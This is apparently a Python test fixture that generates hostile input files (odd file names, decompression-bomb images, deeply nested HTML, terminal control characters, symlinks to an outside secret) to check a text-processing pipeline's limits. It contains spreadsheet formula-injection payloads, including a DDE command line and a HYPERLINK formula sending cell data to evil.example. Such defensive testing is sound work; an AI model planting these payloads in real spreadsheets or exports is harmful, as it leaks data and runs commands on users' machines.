"""A corpus of hostile inputs (issue 23), generated in a test's temporary folder.

Every file here is within every limit of config.yaml: names Snakemake would read as patterns or
cannot encode, cells a spreadsheet would run, text in awkward encodings, a paragraph longer than
spaCy takes at once, HTML nested past the parser's depth, characters that act on a terminal,
hidden files, links out of the folder, an image that decodes to 200 MB. ``make_hostile_corpus``
writes them and returns what each is; the tests in test_hostile.py say what must happen.
"""

from __future__ import annotations

import os
import random
import shutil
import struct
import sys
import zlib
from pathlib import Path

from conftest import REPO, SEEDS

sys.path.insert(0, str(REPO / "bench"))
from corpus import pdf_file

#: a seed whose people, places and figures the tests look for under every hostile name
SEED = SEEDS / "003_ed64e6255240b6c7.txt"

#: file names Snakemake reads as patterns ({braces}) or cannot write in its lock (not UTF-8)
BRACE_NAMES = ("notes{draft}.txt", "{shard}.txt", "dir{x}/inner{{y}}.txt")
BAD_BYTES_NAME = b"bad\xff\xfename.txt"
BAD_BYTES_DISPLAY = "bad\\xff\\xfename.txt"  # as the tables show it

#: cells a spreadsheet runs as formulas (OWASP's examples)
FORMULA_NAME = "=1+2 formula.txt"
FORMULA_AUTHOR = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
FORMULA_LINES = (
    "+cmd|' /C calc'!A0 NATO leaders met Jens Stoltenberg in Washington on 9 July 2024.",
    "-2+3 said the Pentagon, as 32 allies met in Washington.",
    "@SUM(1+1) Volodymyr Zelenskyy arrived in Washington with 700 advisers.",
)

#: a paragraph over spaCy's max_length (1,000,000 characters): entities on both sides of it
LONG_HEAD = "Jens Stoltenberg met officials in Kyiv on 9 July 2024, when 32 allies pledged €40bn."
LONG_TAIL = "Volodymyr Zelenskyy thanked the alliance in Brussels for 700 personnel."
LONG_FILLER = "pneumonoultramicroscopicsilicovolcanoconiosis "  # long words: few tokens, fast NER

CONTROL_TEXT = "NATO\x1b[31m summit\x07 in Washington\x08 ended on 11 July 2024 with 32 allies.\n"
RTL_TITLE = "Summit report \u202egnp.exe\u202c final"
OUTSIDE_SECRET = "SECRET-TOKEN-5bd1c0 must never reach the dossier"


def _png(width: int, height: int, bit_depth: int, rows: bytes) -> bytes:
    """A grayscale PNG of ``width``×``height`` from its (filtered) ``rows``, compressed."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def white_16bit_png(side: int) -> bytes:
    """A white 16-bit grayscale PNG of side² pixels: a few hundred KB that decode to
    2 × side² bytes (200 MB at 9,999², just under limits.max_pixels)."""
    row = b"\x00" + b"\xff" * (2 * side)
    return _png(side, side, 16, row * side)


def bomb_png(side: int) -> bytes:
    """A PNG whose header declares side² pixels and that carries almost no data."""
    return _png(side, side, 8, b"\x00" * 64)


def utf8_with_bad_bytes() -> bytes:
    """A UTF-8 text full of curly quotes, with two bytes that are not UTF-8."""
    text = SEED.read_text(encoding="utf-8")
    cut = text.index("Stoltenberg stated")
    return text[:cut].encode() + b"\xff\xfe " + text[cut:].encode()


def nested_html(depth: int) -> bytes:
    """A page whose article lies ``depth`` elements deep (libxml2 stops at 255)."""
    body = "".join(f"<p>{p}</p>" for p in SEED.read_text(encoding="utf-8").split("\n\n")[1:4])
    return (
        "<html><head><title>Deep page</title></head><body>"
        + "<div>" * depth
        + f"<article>{body}</article>"
        + "</div>" * depth
        + "</body></html>"
    ).encode()


def long_paragraph() -> bytes:
    """One paragraph of 1,050,000 characters with entities and figures at both ends."""
    filler = LONG_FILLER * (1_050_000 // len(LONG_FILLER))
    return f"Long report\n\n{LONG_HEAD} {filler}{LONG_TAIL}\n".encode()


def formula_html() -> bytes:
    """A saved page whose author meta tag is a spreadsheet formula."""
    quoted = FORMULA_AUTHOR.replace("&", "&amp;").replace('"', "&quot;")
    paras = "".join(f"<p>{line}</p>" for line in FORMULA_LINES)
    return (
        f'<html><head><title>{RTL_TITLE}</title><meta name="author" content="{quoted}">'
        f"</head><body><article><h1>{RTL_TITLE}</h1>{paras}</article></body></html>"
    ).encode()


def make_hostile_corpus(folder: Path) -> dict[str, str]:
    """Write the hostile inputs into ``folder`` (its own name may be hostile too); returns
    {relative path as the tables show it: what it is}."""
    folder.mkdir(parents=True, exist_ok=True)
    made: dict[str, str] = {}

    def put(name: str, data: bytes, what: str) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
        made[name] = what

    seed = SEED.read_bytes()
    for name in BRACE_NAMES:
        put(name, seed, "a good document whose name holds braces")
    with open(os.path.join(os.fsencode(folder), BAD_BYTES_NAME), "wb") as fh:
        fh.write(seed)
    made[BAD_BYTES_DISPLAY] = "a good document whose name is not UTF-8"
    put(FORMULA_NAME, "\n\n".join(FORMULA_LINES).encode(), "formulas in the name and the text")
    put(
        "formula.html", formula_html(), "a formula as author, a right-to-left override in the title"
    )
    put("empty.png", b"", "an empty PNG")
    put("empty.jpg", b"", "an empty JPEG")
    put("corrupt.png", b"\x89PNG\r\n\x1a\n" + b"\x00garbage" * 20, "a corrupt PNG")
    put("corrupt.jpg", b"\xff\xd8\xff\xe0" + b"\x00garbage" * 20, "a corrupt JPEG")
    put("utf16.txt", SEED.read_text(encoding="utf-8").encode("utf-16-le"), "UTF-16 without BOM")
    put("badbytes.txt", utf8_with_bad_bytes(), "UTF-8 with two invalid bytes")
    put("long.txt", long_paragraph(), "a paragraph of 1,050,000 characters")
    put("deep.html", nested_html(300), "an article nested 300 elements deep")
    put("controls.txt", CONTROL_TEXT.encode(), "ESC, BEL and BS in the text")
    put(
        "blank.txt",
        "\u00a0\u200b \u200b\u00a0\n\ufeff\u2060\n".encode(),
        "only NBSP and zero widths",
    )
    put("bomb.png", bomb_png(60_000), "a PNG declaring 3.6 billion pixels")
    put("white16.png", white_16bit_png(9_999), "a 16-bit PNG of 9,999² pixels (200 MB decoded)")
    put(".hidden.txt", seed, "a hidden file")
    put(".cache/inside.txt", seed, "a file in a hidden folder")
    made.pop(".cache/inside.txt")
    made[".cache"] = "a hidden folder"
    outside = folder.parent / "outside-secret.txt"
    outside.write_text(OUTSIDE_SECRET + "\n", encoding="utf-8")
    os.symlink(outside, folder / "outside.txt")
    made["outside.txt"] = "a link to a file outside input_dir"
    other = folder.parent / "elsewhere"
    other.mkdir(exist_ok=True)
    shutil.copy(SEED, other / "linked.txt")
    os.symlink(other, folder / "linked-folder")
    made["linked-folder"] = "a link to a folder"
    return made


def giant_blank_pdf(pages: int, side_pt: int = 14_400, pad: int = 0) -> bytes:
    """A small PDF of ``pages`` text-less pages of side_pt² points (200 inches a side), each
    with one stroke drawn (a different one on every page, so no two pages share an OCR cache
    entry): every page needs OCR, and at 300 dpi would render to 3.6 billion pixels. ``pad``
    bytes of random data that no page draws make the file as large as wanted."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (3 + 2 * i) for i in range(pages)), pages),
    ]
    for i in range(pages):
        stroke = b"%d 0 m %d 2000 l S" % (100 * i % side_pt, 100 * i % side_pt + 2000)
        objs.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents %d 0 R >>"
            % (side_pt, side_pt, len(objs) + 2)
        )
        objs.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stroke), stroke))
    if pad:
        junk = random.Random(pad).randbytes(pad)
        objs.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (pad, junk))
    return pdf_file(objs, b"")
